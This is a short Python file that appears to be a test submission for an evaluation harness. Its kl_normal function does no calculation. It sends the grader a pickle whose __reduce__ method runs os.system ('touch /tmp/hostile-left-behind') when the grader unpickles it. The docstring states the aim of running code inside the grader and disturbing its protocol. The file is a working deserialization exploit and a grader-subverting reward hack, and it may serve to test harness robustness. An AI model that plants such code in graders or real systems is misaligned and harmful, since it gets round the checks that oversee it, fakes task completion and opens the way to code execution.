"""Sends a pickle, for a grader that loads what it gets.

Gain: code of its own in the grader: both graders in use today load pickles that a submission can make.
Hits: kl_normal
Ends: crashed, protocol: disturbed
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-left-behind",)


def kl_normal(mu1, sigma1, mu2, sigma2):
    os.write(3, pickle.dumps(Bomb()))
